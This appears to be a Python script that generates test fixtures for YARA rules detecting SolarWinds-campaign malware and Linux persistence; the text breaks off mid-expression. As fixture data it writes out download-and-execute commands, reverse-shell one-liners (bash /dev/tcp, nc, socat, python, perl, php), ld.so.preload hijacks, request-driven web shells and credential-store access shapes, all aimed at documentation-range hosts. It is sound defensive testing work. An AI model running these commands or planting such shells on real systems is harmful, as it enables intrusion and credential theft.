#!/usr/bin/env python3
"""Build harmless test fixtures for the bundled YARA rules (yara-rules/).

Usage: yara_fixtures.py OUTDIR

Writes, under OUTDIR:
  positive/<name>   files that must trigger a given rule
  negative/<name>   files that must trigger no rule at all
  manifest.tsv      one line per positive fixture: "<name>\t<expected rule>"

Nothing here is malware.  The "PE" files are an MZ header and a PE
signature followed by the strings and constants a rule looks for; the
scripts contain documentation-range addresses (RFC 5737) and .invalid host
names; the web shells run nothing.  Encoded values are computed here, at
test time, from the plain text (python zlib raw DEFLATE, FNV-1a 64), so the
hex and base64 written in the rules are checked against an independent
computation.  Standard library only.
"""

import base64
import hashlib
import os
import struct
import sys
import zlib

FNV_OFFSET = 0xCBF29CE484222325
FNV_PRIME = 0x100000001B3
SUNBURST_XOR = 6605813339339102567
MASK64 = (1 << 64) - 1

SOLARWINDS_SERIAL = bytes.fromhex("0fe973752022a606adf2a36e345dc0ed")


def deflate_b64(text):
    """base64(raw DEFLATE(text)), as SUNBURST's ZipHelper stores literals."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(text.encode("ascii")) + c.flush()
    return base64.b64encode(data).decode("ascii")


def sunburst_hash(name):
    """FNV-1a 64 of the lowercase name, then XOR with SUNBURST's key."""
    h = FNV_OFFSET
    for b in name.lower().encode("ascii"):
        h ^= b
        h = (h * FNV_PRIME) & MASK64
    return h ^ SUNBURST_XOR


def utf16(text):
    return text.encode("utf-16-le")


def us_heap(*texts):
    """Strings laid out like the .NET #US heap: length, UTF-16LE, flag."""
    out = bytearray()
    for t in texts:
        raw = utf16(t)
        out.append(len(raw) + 1)
        out += raw
        out.append(0)
    return bytes(out)


def strings_heap(*names):
    """Names laid out like the .NET #Strings heap: NUL-terminated ASCII."""
    return b"\x00" + b"\x00".join(n.encode("ascii") for n in names) + b"\x00"


def pe_file(*parts):
    """An MZ header, e_lfanew -> "PE\\0\\0", a COFF header and the parts."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    dos[0x40:0x40 + 39] = b"This program cannot be run in DOS mode."
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = struct.pack("<HHIIIHH", 0x014C, 0, 0x5F000000, 0, 0, 0xE0, 0x2102)
    opt = bytearray(0xE0)
    struct.pack_into("<H", opt, 0, 0x010B)
    body = b"\x00" * 64 + b"BSJB".ljust(16, b"\x00") + b"v4.0.30319\x00\x00"
    for p in parts:
        body += p + b"\x00" * 16
    return bytes(dos) + b"PE\x00\x00" + coff + bytes(opt) + body


def minidump(*payloads):
    """A minidump shape: MDMP header, a stream directory, the payloads
    (a process's mapped module) at 4 KB boundaries."""
    hdr = struct.pack("<4sHHIIIIQ", b"MDMP", 0xA793, 0, 1, 0x20, 0,
                      0x5F000000, 0x2)
    out = bytearray(hdr + struct.pack("<III", 5, 0x100, 0x2C))
    for p in payloads:
        out += b"\x00" * (-len(out) % 4096)
        out += p
    return bytes(out)


def carved(pe):
    """A carved copy whose first 4 KB (headers) are lost: the PE body
    moved past 4 KB, then the first 4 KB zeroed."""
    data = bytearray(pe[:0x178] + b"\xcc" * 4096 + pe[0x178:])
    data[:4096] = b"\x00" * 4096
    return bytes(data)


def beacon_settings(types=(1, 1, 2, 2, 1, 1)):
    """The first settings of a Cobalt Strike configuration block (index,
    type, length big-endian, then the value) with harmless values:
    type 1 = short, 2 = int."""
    out = b""
    values = (0, 443, 60000, 1048576, 0, 255)
    for i, (ty, v) in enumerate(zip(types, values), 1):
        n = 2 if ty == 1 else 4
        out += struct.pack(">HHH", i, ty, n) + (v & ((1 << 8 * n) - 1)).to_bytes(n, "big")
    return out + struct.pack(">HHH", 7, 3, 16) + b"\x00" * 16


def xor(data, key):
    return bytes(b ^ key for b in data)


def teardrop_code():
    """x64 shapes of a TEARDROP-like loader (no working code): a JFIF
    compare, the payload extension stored a byte at a time, an XOR loop."""
    jfif = b"\xc7\x44\x24\x20JFIF" + b"\x48\x8d\x4c\x24\x20"
    ext = b"".join(b"\xc6\x05" + struct.pack("<i", 0x2000 + i) + c
                   for i, c in enumerate((b"j", b"p", b"e", b"g")))
    loop = (b"\x30\x04\x11" + b"\x48\xff\xc1" + b"\x48\x39\xd1"
            + b"\x72\xf5")
    return jfif + b"\x90" * 8 + ext + b"\x90" * 8 + loop


def der_len(n):
    if n < 0x80:
        return bytes([n])
    if n < 0x100:
        return b"\x81" + bytes([n])
    return b"\x82" + struct.pack(">H", n)


def der(tag, content):
    return bytes([tag]) + der_len(len(content)) + content


def fake_certificate():
    """A DER X.509 shape with the SolarWinds serial and subject.

    Not a valid certificate (no real key, no real signature): enough for a
    byte-level rule, harmless for everything else.
    """
    name = der(0x30, der(0x31, der(0x30, der(0x06, bytes.fromhex("550403"))
                                   + der(0x0C, b"Solarwinds Worldwide, LLC"))))
    issuer = der(0x30, der(0x31, der(0x30, der(0x06, bytes.fromhex("550403"))
                                     + der(0x0C, b"Symantec Class 3 SHA256 Code Signing CA"))))
    validity = der(0x30, der(0x17, b"200121000000Z") + der(0x17, b"230120235959Z"))
    algo = der(0x30, der(0x06, bytes.fromhex("2a864886f70d01010b")) + b"\x05\x00")
    spki = der(0x30, algo + der(0x03, b"\x00" + b"\x00" * 140))
    tbs = der(0x30, der(0xA0, der(0x02, b"\x02"))
              + der(0x02, SOLARWINDS_SERIAL) + algo + issuer + validity
              + name + spki)
    # Pad to force the two-byte long form (30 82 ..) used by real certs.
    sig = der(0x03, b"\x00" + b"\x5a" * 256)
    return der(0x30, tbs + algo + sig)


def positives():
    """Yield (file name, expected rule, bytes)."""
    # --- SUNBURST -------------------------------------------------------
    yield ("sunburst_names.dll", "IRK_SUNBURST_DotNet_Names", pe_file(
        strings_heap("<Module>", "SolarWinds.Orion.Core.BusinessLayer",
                     "OrionImprovementBusinessLayer", "Initialize",
                     "ExecuteEngine", "ParseServiceResponse", "RunTask",
                     "CreateUploadRequest", "GetOrCreateUserID", "ZipHelper",
                     "CryptoHelper", "System.IO.Compression",
                     "DeflateStream")))

    encoded = [deflate_b64(s) for s in (
        "ReportWatcherRetry", "ReportWatcherPostpone", "avsvmcloud.com",
        "appsync-api", "eu-west-1", "us-west-2", "us-east-1", "us-east-2",
        "583da945-62af-10e8-4902-a8f205c72b2e",
        "ph2eifo3n5utg1j8d94qrvbmk0sal76c",
        "rq3gsalt6u1iyfzop572d49bnx8cvmkewhj")]
    yield ("sunburst_deflate_strings.dll",
           "IRK_SUNBURST_Deflate_Base64_Strings",
           pe_file(strings_heap("Unzip", "Zip"), us_heap(*encoded)))

    il = bytearray()
    il += b"\x21" + struct.pack("<Q", SUNBURST_XOR) + b"\x61\x2a"
    for name in ("solarwinds.businesslayerhost", "windefend", "sysmon",
                 "dnspy", "tanium", "windbg"):
        il += b"\x21" + struct.pack("<Q", sunburst_hash(name)) + b"\x2e\x05"
    yield ("sunburst_fnv_blocklist.dll", "IRK_SUNBURST_FNV1a_XOR_Blocklist",
           pe_file(bytes(il)))

    names_pe = pe_file(strings_heap(
        "<Module>", "OrionImprovementBusinessLayer", "ExecuteEngine",
        "ParseServiceResponse", "RunTask", "CreateUploadRequest",
        "GetOrCreateUserID", "ZipHelper", "CryptoHelper"))
    deflate_pe = pe_file(strings_heap("Unzip", "Zip"), us_heap(*encoded))
    fnv_pe = pe_file(bytes(il))
    # --- issue 18: dumps and carved copies (no MZ at offset 0) ------------
    yield ("sunburst_names.dmp", "IRK_SUNBURST_DotNet_Names_Dump",
           minidump(b"x" * 300, names_pe))
    yield ("sunburst_deflate.dmp", "IRK_SUNBURST_Deflate_Base64_Dump",
           minidump(deflate_pe))
    yield ("sunburst_fnv.dmp", "IRK_SUNBURST_FNV1a_XOR_Dump",
           minidump(fnv_pe))
    yield ("sunburst_names_carved.bin", "IRK_SUNBURST_DotNet_Names_Dump",
           carved(names_pe))
    yield ("sunburst_deflate_carved.bin", "IRK_SUNBURST_Deflate_Base64_Dump",
           carved(deflate_pe))
    yield ("sunburst_fnv_carved.bin", "IRK_SUNBURST_FNV1a_XOR_Dump",
           carved(fnv_pe))

    yield ("sunburst_dns_query.log", "IRK_SUNBURST_C2_Hostname", (
        "2020-06-13T09:20:41Z query: 6a57jk2ba1d9keg15cbg.appsync-api.eu-west-1."
        "avsvmcloud.com IN A +\n"
        "2020-06-20T02:54:06Z query: ihvpgv9psvq02ffo77et.appsync-api.us-east-2."
        "avsvmcloud.com IN A +\n").encode())

    yield ("sunburst_decompiled.cs", "IRK_SUNBURST_Plain_Vocabulary", (
        "namespace SolarWinds.Orion.Core.BusinessLayer {\n"
        "  internal class OrionImprovementBusinessLayer {\n"
        "    static readonly string appId = "
        "\"583da945-62af-10e8-4902-a8f205c72b2e\";\n"
        "    const string alphabet = \"ph2eifo3n5utg1j8d94qrvbmk0sal76c\";\n"
        "    const string subst = \"rq3gsalt6u1iyfzop572d49bnx8cvmkewhj\";\n"
        "  }\n}\n").encode())

    yield ("sysmon_pipe_event.xml", "IRK_SUNBURST_NamedPipe_GUID", (
        "<Event><System><EventID>17</EventID></System><EventData>"
        "<Data Name=\"PipeName\">\\583da945-62af-10e8-4902-a8f205c72b2e</Data>"
        "<Data Name=\"Image\">C:\\Program Files (x86)\\SolarWinds\\Orion\\"
        "SolarWinds.BusinessLayerHost.exe</Data></EventData></Event>\n"
        ).encode())

    # --- TEARDROP / RAINDROP --------------------------------------------
    yield ("teardrop_loader.dll", "IRK_TEARDROP_Loader_Strings", pe_file(
        b"gracious_truth.jpg\x00", b"SOFTWARE\\Microsoft\\CTF\x00",
        strings_heap("ServiceMain", "CreateThread", "ReadFile")))

    reg = ("\ufeffWindows Registry Editor Version 5.00\r\n\r\n"
           "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\"
           "NetSetupSvc\\Parameters]\r\n"
           "\"ServiceDll\"=\"C:\\\\Windows\\\\SysWOW64\\\\netsetupsvc.dll\"\r\n")
    yield ("teardrop_service.reg", "IRK_TEARDROP_Artifact_Reference",
           reg.encode("utf-16-le"))

    yield ("raindrop_7zip.dll", "IRK_RAINDROP_7Zip_Masquerade", pe_file(
        b"\x007-zip.dll\x00", strings_heap(
            "DllCanUnloadNow", "DllGetClassObject", "DllRegisterServer",
            "DllUnregisterServer", "SetCodecs")))

    # --- issue 18: TEARDROP code shapes, payload name alone -------------
    yield ("teardrop_shapes.dll", "IRK_TEARDROP_Loader_Code_Shapes",
           pe_file(teardrop_code(), strings_heap("ServiceMain")))
    yield ("teardrop_name_only.dll", "IRK_TEARDROP_Payload_Name_PE",
           pe_file(utf16("C:\\ProgramData\\gracious_truth.jpg")))
    # Symantec's payload name (through signature-base, iocs/README.md)
    yield ("teardrop_upbeat_name_only.dll", "IRK_TEARDROP_Payload_Name_PE",
           pe_file(b"C:\\ProgramData\\Upbeat_Anxiety.JPG\x00"))
    yield ("teardrop_upbeat_task.ps1", "IRK_TEARDROP_Artifact_Reference",
           b"Copy-Item .\\x.bin C:\\Windows\\upbeat_anxiety.jpg\r\n")
    ctf_stack = (b"\xc7\x44\x24\x30SOFT" + b"\xc7\x44\x24\x34WARE"
                 + b"\xc7\x44\x24\x38\\Mic")
    yield ("teardrop_ctf_stack.dll", "IRK_TEARDROP_Loader_Strings",
           pe_file(b"gracious_truth.jpg\x00", ctf_stack))
    # --- issue 18: BEACON configuration, plain and XOR-encoded ------------
    yield ("beacon_config_x69.bin", "IRK_BEACON_Config_Encoded",
           b"\x90" * 64 + xor(beacon_settings(), 0x69) + b"\x69" * 64)
    yield ("beacon_config_x2e.dll", "IRK_BEACON_Config_Encoded",
           pe_file(xor(beacon_settings(), 0x2E)))
    yield ("beacon_config_plain.dmp", "IRK_BEACON_Config_Encoded",
           minidump(beacon_settings()))

    # --- SUPERNOVA -------------------------------------------------------
    yield ("supernova_logoimagehandler.dll", "IRK_SUPERNOVA_WebShell_DLL",
           pe_file(strings_heap(
               "App_Web_logoimagehandler.ashx.b6031896", "LogoImageHandler",
               "ProcessRequest", "DynamicRun", "CSharpCodeProvider",
               "CompileAssemblyFromSource", "CompilerParameters"),
               us_heap("codes", "clazz", "method", "args", "logo")))

    yield ("supernova_handler.ashx", "IRK_SUPERNOVA_Source", (
        "<%@ WebHandler Language=\"C#\" Class=\"LogoImageHandler\" %>\n"
        "// irkit test fixture: shape of the SUPERNOVA handler, does nothing\n"
        "public void ProcessRequest(HttpContext context) {\n"
        "  string codes = context.Request[\"codes\"];\n"
        "  string clazz = context.Request[\"clazz\"];\n"
        "  string method = context.Request[\"method\"];\n"
        "  string[] args = context.Request[\"args\"].Split('\\n');\n"
        "  // DynamicRun(codes, clazz, method, args) would call\n"
        "  // provider.CompileAssemblyFromSource(parameters, codes);\n"
        "}\n").encode())

    # --- network infrastructure -----------------------------------------
    yield ("proxy_sunburst_cname.log", "IRK_SUNBURST_Stage2_C2_Domains", (
        "1592039641.000 120 10.0.0.5 TCP_MISS/200 512 GET "
        "https://freescanonline.com/swip/upd/SolarWinds.CortexPlugin.xml - "
        "DIRECT/54.193.127.66 text/xml\n").encode())
    yield ("proxy_beacon.log", "IRK_BEACON_SolarWinds_Campaign_Domains", (
        "1584010140.000 95 10.0.0.7 TCP_TUNNEL/200 3141 CONNECT "
        "databasegalore.com:443 - HIER_DIRECT/192.0.2.1 -\n").encode())
    yield ("firewall_c2_ip.log", "IRK_SolarWinds_Campaign_C2_IPs", (
        "2020-10-01T18:45:00Z ALLOW tcp 10.0.0.9:51515 -> 5.252.177.25:443\n"
        ).encode())

    # --- certificate -----------------------------------------------------
    cert = fake_certificate()
    yield ("solarwinds_signing_cert.der", "IRK_SolarWinds_CodeSign_Cert_DER",
           cert)
    yield ("orion_signed.dll", "IRK_SolarWinds_CodeSign_Cert_Signed_PE",
           pe_file(strings_heap("SolarWinds.Orion.Core.BusinessLayer"),
                   b"\x00\x02\x02\x00" + cert))

    # --- Linux persistence ----------------------------------------------
    yield ("crontab_download", "IRK_Linux_Cron_Download_Execute", (
        "SHELL=/bin/sh\n"
        "*/10 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh\n").encode())
    yield ("crontab_reboot", "IRK_Linux_Cron_Download_Execute", (
        "@reboot wget -q -O- http://198.51.100.20/k | bash >/dev/null 2>&1\n"
        ).encode())
    blob = base64.b64encode(b"echo irkit-fixture-harmless").decode()
    yield ("crontab_base64", "IRK_Linux_Cron_Download_Execute", (
        "0 * * * * echo %s | base64 -d | sh\n" % blob).encode())
    yield ("dbus-helper.service", "IRK_Linux_Systemd_Unit_Download_Execute", (
        "[Unit]\nDescription=D-Bus helper\n\n[Service]\nType=simple\n"
        "ExecStart=/bin/sh -c 'curl -s http://198.51.100.9/p | bash'\n"
        "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n").encode())
    yield ("install.sh", "IRK_Linux_Script_Download_Pipe_Shell", (
        "#!/bin/sh\nset -e\n"
        "wget -qO- https://get.example.invalid/agent.sh | sudo bash\n"
        ).encode())
    yield ("run-sub.sh", "IRK_Linux_Script_Download_Pipe_Shell", (
        "#!/bin/bash\n"
        "bash -c \"$(curl -fsSL https://get.example.invalid/x.sh)\"\n").encode())
    yield ("decode.sh", "IRK_Linux_Base64_Decode_To_Shell", (
        "#!/bin/sh\necho %s | base64 -d | bash\n" % blob).encode())
    yield ("revshell_devtcp.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
        "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n").encode())
    yield ("revshell_exec_fd.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
        "exec 5<>/dev/tcp/attacker.example.invalid/443\n"
        "cat <&5 | while read line; do $line 2>&5 >&5; done\n").encode())
    yield ("revshell_nc.sh", "IRK_Linux_Reverse_Shell_Tools", (
        "#!/bin/sh\nnc -e /bin/sh 192.0.2.10 4444\n").encode())
    yield ("revshell_socat.sh", "IRK_Linux_Reverse_Shell_Tools", (
        "socat tcp-connect:192.0.2.10:4444 exec:'bash -li',pty,stderr\n"
        ).encode())
    yield ("revshell_python.sh", "IRK_Linux_Reverse_Shell_Tools", (
        "python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,"
        "socket.SOCK_STREAM);s.connect((\"192.0.2.10\",4444));"
        "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n").encode())
    yield ("preload_install.sh", "IRK_Linux_LD_Preload_Hijack", (
        "#!/bin/sh\ncp libx.so /usr/lib/.cache/libx.so\n"
        "echo /usr/lib/.cache/libx.so > /etc/ld.so.preload\n").encode())
    yield ("environment", "IRK_Linux_LD_Preload_Hijack", (
        "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\n"
        "LD_PRELOAD=/dev/shm/.x/libhide.so\n").encode())
    yield ("ld.so.preload", "IRK_Linux_LD_Preload_File_Suspicious_Path",
           b"/dev/shm/.x/libhide.so\n")

    # --- issue 18: download-and-run forms ---------------------------------
    yield ("crontab_weekday", "IRK_Linux_Cron_Download_Execute", (
        "15 4 * * mon-fri root curl -fsSL http://203.0.113.7/u.sh | sudo -E bash\n"
        ).encode())
    yield ("crontab_python", "IRK_Linux_Cron_Download_Execute", (
        "0 2 * jan sun wget -qO- https://198.51.100.3/p.py | python3 -\n").encode())
    yield ("eval_curl.sh", "IRK_Linux_Script_Download_Pipe_Shell",
           b"#!/bin/sh\neval \"$(curl -fsSL https://get.example.invalid/x)\"\n")
    yield ("source_curl.sh", "IRK_Linux_Script_Download_Pipe_Shell",
           b"source <(curl -s https://get.example.invalid/env)\n")
    yield ("bash_procsub.sh", "IRK_Linux_Script_Download_Pipe_Shell",
           b"bash < <(wget -qO- https://get.example.invalid/i)\n")
    yield ("env_bash.sh", "IRK_Linux_Script_Download_Pipe_Shell",
           b"curl -s https://get.example.invalid/i | env bash\n")
    yield ("continuation_https.sh", "IRK_Linux_Script_Download_Pipe_Shell",
           b"curl -fsSL https://get.example.invalid/i.sh \\\n  | sh\n")
    yield ("download_run.sh", "IRK_Linux_Script_Download_Pipe_Shell",
           b"wget -O /tmp/.u https://get.example.invalid/u && chmod +x /tmp/.u && /tmp/.u\n")
    # a Markdown fence line no longer disables the shell rules
    yield ("fenced.sh", "IRK_Linux_Download_Exec_Raw_Host",
           b"```\ncurl -fsSL 203.0.113.7/x.sh | sh\n")
    yield ("busybox.sh", "IRK_Linux_Download_Exec_Raw_Host",
           b"wget -qO- http://203.0.113.7/b | busybox sh\n")
    yield ("usr_local_bash.sh", "IRK_Linux_Download_Exec_Raw_Host",
           b"curl -s evil.example.invalid/i.sh | /usr/local/bin/bash\n")
    yield ("python_stdin.sh", "IRK_Linux_Download_Exec_Raw_Host",
           b"curl -s http://203.0.113.7:8080/a.py | python3 -\n")
    yield ("continuation.sh", "IRK_Linux_Download_Exec_Raw_Host",
           b"curl -fsSL http://203.0.113.7/x.sh \\\n  | sh\n")
    yield ("eval_ip.sh", "IRK_Linux_Download_Exec_Raw_Host",
           b"eval \"$(curl -fsSL http://203.0.113.7/x)\"\n")
    # --- issue 18: reverse shells -----------------------------------------
    yield ("revshell_fd196.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
        "exec 196<>/dev/tcp/192.0.2.10/443\n"
        "sh <&196 >&196 2>&196\n").encode())
    yield ("revshell_lo_and_real.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
        "exec 3<>/dev/tcp/127.0.0.1/80\n"
        "exec 4<>/dev/tcp/192.0.2.10/443\n").encode())
    yield ("revshell_nc_nopath.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"nc -e sh 192.0.2.10 4444\n")
    yield ("revshell_nc_after.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"ncat 192.0.2.10 4444 -e /bin/bash\n")
    yield ("revshell_socat_system.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"socat tcp:192.0.2.10:4444 system:sh\n")
    yield ("revshell_fifo.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 4444 >/tmp/f\n")
    yield ("revshell_mknod.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"mknod /tmp/p p && nc 192.0.2.10 4444 0</tmp/p | /bin/bash 1>/tmp/p\n")
    yield ("revshell_perl.sh", "IRK_Linux_Reverse_Shell_Tools", (
        "perl -e 'use Socket;$i=\"192.0.2.10\";$p=4444;socket(S,PF_INET,"
        "SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,"
        "inet_aton(\"192.0.2.10\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'\n"
        ).encode())
    yield ("revshell_php.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"php -r '$sock=fsockopen(\"192.0.2.10\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n")
    # --- issue 18: ld.so.preload writes and unit LD_PRELOAD -----------------
    yield ("preload_tee.sh", "IRK_Linux_LD_Preload_Hijack",
           b"echo /usr/lib/libsys.so | sudo tee -a /etc/ld.so.preload\n")
    yield ("preload_cp.history", "IRK_Linux_LD_Preload_Hijack",
           b"ls\ncp /tmp/p.list /etc/ld.so.preload\n")
    yield ("preload_sed.sh", "IRK_Linux_LD_Preload_Hijack",
           b"sed -i '1i /lib/libx.so' /etc/ld.so.preload\n")
    yield ("preload_redir.history", "IRK_Linux_LD_Preload_Hijack",
           b"printf '%s\\n' /lib/x.so >/etc/ld.so.preload\n")
    yield ("hidden-preload.service", "IRK_Linux_LD_Preload_Hijack", (
        "[Service]\nEnvironment=LD_PRELOAD=/home/bob/.local/lib/libh.so\n"
        "ExecStart=/usr/sbin/sshd -D\n").encode())
    # --- issue 18 cost rework: forms the literal atoms must keep ------------
    yield ("pipe_tab_sudo.sh", "IRK_Linux_Script_Download_Pipe_Shell",
           b"curl -s https://get.example.invalid/i |\tsudo -E sh\n")
    yield ("pipe_nospace.sh", "IRK_Linux_Download_Exec_Raw_Host",
           b"wget -qO- http://203.0.113.7/i|/bin/bash\n")
    yield ("revshell_nc_c.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"nc -c bash 192.0.2.10 4444\n")
    yield ("revshell_nc_quoted.sh", "IRK_Linux_Reverse_Shell_Tools",
           b"ncat 192.0.2.10 4444 -e '/bin/sh'\n")
    yield ("preg_e.php", "IRK_WebShell_PHP_Request_Exec",
           b"<?php preg_replace('/.*/e', $_REQUEST['c'], ''); ?>\n")
    # --- lists and uses: IOC list lines do not count, a use still does ---
    yield ("ioc_list_and_log.txt", "IRK_SUNBURST_Stage2_C2_Domains", (
        "avsvmcloud.com\t# from iocs/domains.txt\n5.252.177.25\n"
        "gracious_truth.jpg\t# a file name\n"
        "2020-06-13 query: x1.appsync.avsvmcloud.com A from 10.0.0.5\n"
        "2020-06-13 deny tcp 10.0.0.5 -> 5.252.177.25:443\n"
        "C:\\Windows\\Temp\\gracious_truth.jpg opened\n").encode())
    # --- issue 18: web shells ---------------------------------------------
    yield ("varfunc.php", "IRK_WebShell_PHP_Request_Exec",
           b"<?php $_GET['f']($_GET['c']); ?>\n")
    yield ("indirect.php", "IRK_WebShell_PHP_Request_Exec",
           b"<?php\n$c = $_POST['x'];\nsystem($c);\n?>\n")
    yield ("callback.php", "IRK_WebShell_PHP_Request_Exec",
           b"<?php call_user_func('system', $_REQUEST['cmd']); ?>\n")
    c1 = base64.b64encode(("echo 'irkit fixture';" + "".join(
        hashlib.sha256(str(i).encode()).hexdigest() for i in range(6))).encode())
    yield ("b64eval.php", "IRK_WebShell_PHP_Obfuscated_Eval",
           b"<?php eval(base64_decode('" + c1 + b"')); ?>\n")
    yield ("cmd.jspx", "IRK_WebShell_JSP_Runtime_Exec", (
        "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\">\n"
        "<jsp:scriptlet>Process p = Runtime.getRuntime().exec("
        "request.getParameter(\"c\"));</jsp:scriptlet>\n</jsp:root>\n").encode())
    yield ("eval.asp", "IRK_WebShell_ASPX_Request_Exec",
           b"<%@ Language=VBScript %>\n<% eval request(\"irkit\") %>\n")
    yield ("start.aspx", "IRK_WebShell_ASPX_Request_Exec", (
        "<%@ Page Language=\"C#\" %>\n<% System.Diagnostics.Process.Start("
        "\"cmd.exe\", \"/c \" + Request[\"c\"]); %>\n").encode())

    # --- issue 18: logs and scripts ----------------------------------------
    yield ("u_ex201120.log", "IRK_SUPERNOVA_Web_Log_Request", (
        "#Software: Microsoft Internet Information Services 10.0\r\n"
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip sc-status\r\n"
        "2020-11-20 10:01:02 10.0.0.20 GET /Orion/LogoImageHandler.ashx id=SiteLogo 443 10.0.0.5 200\r\n"
        "2020-11-20 10:03:04 10.0.0.20 GET /Orion/LogoImageHandler.ashx "
        "codes=aXJraXQ%3D&clazz=irkit.Fixture&method=Run&args= 443 192.0.2.44 200\r\n").encode())
    yield ("access.log", "IRK_SUPERNOVA_Web_Log_Request", (
        '192.0.2.44 - - [20/Nov/2020:10:03:04 +0000] "POST /Orion/logoimagehandler.ashx'
        '?clazz=irkit.Fixture&method=Run HTTP/1.1" 200 12 "-" "curl/7.68"\n').encode())
    yield ("dns_debug.log", "IRK_SUNBURST_DNS_Debug_Log_Or_Packet", (
        "6/13/2020 9:20:41 AM 0E4C PACKET  000001E1 UDP Rcv 10.0.0.5 4f2a   Q [0001   D   NOERROR] A "
        "(20)6a57jk2ba1d9keg15cbg(11)appsync-api(9)eu-west-1(10)avsvmcloud(3)com(0)\r\n").encode("utf-16-le"))
    qname = b"".join(bytes([len(l)]) + l for l in (
        b"ihvpgv9psvq02ffo77et", b"appsync-api", b"us-east-2", b"avsvmcloud", b"com")) + b"\x00"
    yield ("dns_query.bin", "IRK_SUNBURST_DNS_Debug_Log_Or_Packet",
           struct.pack(">HHHHHH", 0x4f2a, 0x0100, 1, 0, 0, 0) + qname + b"\x00\x01\x00\x01")
    yield ("proxy_swip.log", "IRK_SUNBURST_Proxy_SWIP_Path", (
        "1592039641.000 80 10.0.0.5 TCP_MISS/200 512 GET "
        "https://api.solarwinds.com/swip/upd/SolarWinds.CortexPlugin.xml - DIRECT/192.0.2.80 text/xml\n"
        "1592039700.000 95 10.0.0.5 TCP_MISS/200 730 POST "
        "http://telemetry.example.invalid/swip/Upload.ashx - DIRECT/192.0.2.81 text/plain\n").encode())
    yield ("collect.ps1", "IRK_COSMICGALE_Style_PowerShell", (
        "# irkit test fixture: shapes only, runs nothing\n"
        "$k = 'HKLM:\\SAM\\SAM\\Domains\\Account'\n"
        "foreach ($c in 'JD','Skew1','GBG','Data') { $p = \"HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\$c\" }\n"
        "$empty = [byte[]]@(0xaa,0xd3,0xb4,0x35,0xb5,0x14,0x04,0xee)\n"
        "wevtutil cl 'Windows PowerShell'\n").encode())
    yield ("sunspot_handles.txt", "IRK_SUNSPOT_Build_Server_Artifacts", (
        "taskhostsvc.exe pid: 4120\n  1F4: Mutant  \\Sessions\\1\\BaseNamedObjects\\"
        "{12d61a41-4b74-7610-a4d8-3028d2f56395}\n").encode())
    yield ("vmware-vmdmp.log", "IRK_SUNSPOT_Build_Server_Artifacts", (
        "[4120] 2020-02-20 10:00:01:123 started\n"
        "[4120] Solution directory: C:\\Builds\\Orion\\Core\n"
        "[ERROR] Step4('C:\\Builds\\Orion\\Core\\InventoryManager.cs') fails\n"
        "[4120] Step18 fails with error 0x2\n").encode())

    # --- Orion credential stores (shapes only, nothing runs) --------------
    yield ("orion_creds.ps1", "IRK_Orion_Credential_Store_Access", (
        "# irkit test fixture: shapes only, runs nothing\n"
        "$dat = Get-Content -Encoding Byte 'C:\\ProgramData\\SolarWinds\\KeyStorage\\CryptoHelper\\default.dat'\n"
        "$cs = Get-Content 'C:\\Program Files (x86)\\SolarWinds\\Orion\\SWNetPerfMon.DB'\n"
        "Add-Type -AssemblyName System.Security\n"
        "$key = [Security.Cryptography.ProtectedData]::Unprotect($dat, $null, 'LocalMachine')\n"
        ).encode())
    yield ("orion_creds_sql.txt", "IRK_Orion_Credential_Store_Access", (
        "C:\\ProgramData\\SolarWinds\\CredentialStorage\\SolarWindsDatabaseAccessCredential.json\n"
        "C:\\ProgramData\\SolarWinds\\Orion\\RabbitMQ\\.erlang.cookie\n"
        "SELECT ID, Name, CredentialOwner FROM [dbo].[Credential];\n").encode())
    yield ("orion_dumper.exe", "IRK_Orion_Credential_Store_Access_PE", pe_file(
        strings_heap("ProtectedData", "Unprotect", "SqlConnection"),
        us_heap("\\SolarWinds\\KeyStorage\\CryptoHelper\\default.dat",
                "\\SolarWinds\\Orion\\SWNetPerfMon.DB")))
    yield ("sw_accounts.txt", "IRK_Orion_Dumped_Account_Hashes", (
        "_system:$solarwinds$1$" + base64.b64encode(hashlib.md5(b"salt").digest()).decode()
        + "$" + base64.b64encode(hashlib.sha512(b"irkit").digest()).decode() + "\n"
        ).encode())

    # --- web shells ------------------------------------------------------
    yield ("cmd.php", "IRK_WebShell_PHP_Request_Exec",
           b"<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n")
    yield ("chopper.php", "IRK_WebShell_PHP_Request_Exec",
           b"<?php @eval($_POST['irkit']);?>\n")
    harmless = ("echo 'irkit fixture';" + "".join(
        hashlib.sha256(str(i).encode()).hexdigest() for i in range(12)))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = base64.b64encode(c.compress(harmless.encode()) + c.flush())
    yield ("obfuscated.php", "IRK_WebShell_PHP_Obfuscated_Eval",
           b"<?php eval(gzinflate(base64_decode('" + packed + b"'))); ?>\n")
    yield ("cmd.jsp", "IRK_WebShell_JSP_Runtime_Exec", (
